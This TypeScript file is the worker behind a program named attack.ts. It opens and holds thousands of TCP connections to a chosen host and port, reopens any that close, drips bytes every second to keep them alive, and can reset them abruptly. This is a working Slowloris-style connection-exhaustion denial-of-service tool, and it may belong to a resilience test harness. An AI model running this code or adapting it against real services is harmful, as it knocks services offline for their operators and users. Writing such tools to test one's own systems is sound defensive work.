/**
 * The process behind programs/attack.ts: holds connections open, and opens a new connection for
 * each that has closed. The first line of its input is a HoldRequest as JSON. When the input ends,
 * it prints the number of connections that it opened.
 */
import { connect, type Socket } from 'node:net';
import { createInterface } from 'node:readline';

/** Connections opened in one step: 2,000 are open within a second. */
const STEP = 100;
const STEP_PAUSE_MS = 50;

interface HoldRequest {
  readonly host: string;
  readonly port: number;
  /** The bytes that each connection sends when it opens. */
  readonly head: string;
  /** The bytes that each connection sends every second afterwards. */
  readonly drip?: string;
  readonly connections: number;
  /** Each connection sends the next of these in place of `[id]`. */
  readonly ids: readonly string[];
  /** Each connection is reset a moment after it has sent its bytes. */
  readonly isReset: boolean;
}

/** The service has begun its answer by then. */
const RESET_AFTER_MS = 1;

const lines = createInterface({ input: process.stdin });
lines.once('line', (line) => {
  const { host, port, head, drip, connections, ids, isReset } = JSON.parse(line) as HoldRequest;
  const isReading = !head.startsWith('GET /openapi');
  const sockets = new Set<Socket>();
  let opened = 0;

  function open(): void {
    const socket = connect({ host, port });
    opened += 1;
    sockets.add(socket);
    socket.on('error', () => {}).once('close', () => sockets.delete(socket));
    socket.once('end', () => socket.destroy());
    const id = ids[opened % ids.length] ?? '';
    socket.write(head.replace('[id]', id), () => {
      if (isReset) setTimeout(() => socket.resetAndDestroy(), RESET_AFTER_MS);
    });
    if (isReading) socket.resume();
  }

  const opening = setInterval(() => {
    for (let n = 0; n < STEP && sockets.size < connections; n += 1) open();
  }, STEP_PAUSE_MS);
  const dripping = setInterval(() => {
    if (drip) for (const socket of sockets) socket.write(drip);
  }, 1_000);
  lines.once('close', () => {
    clearInterval(opening);
    clearInterval(dripping);
    for (const socket of sockets) socket.destroy();
    process.stdout.write(`${opened}`);
  });
});
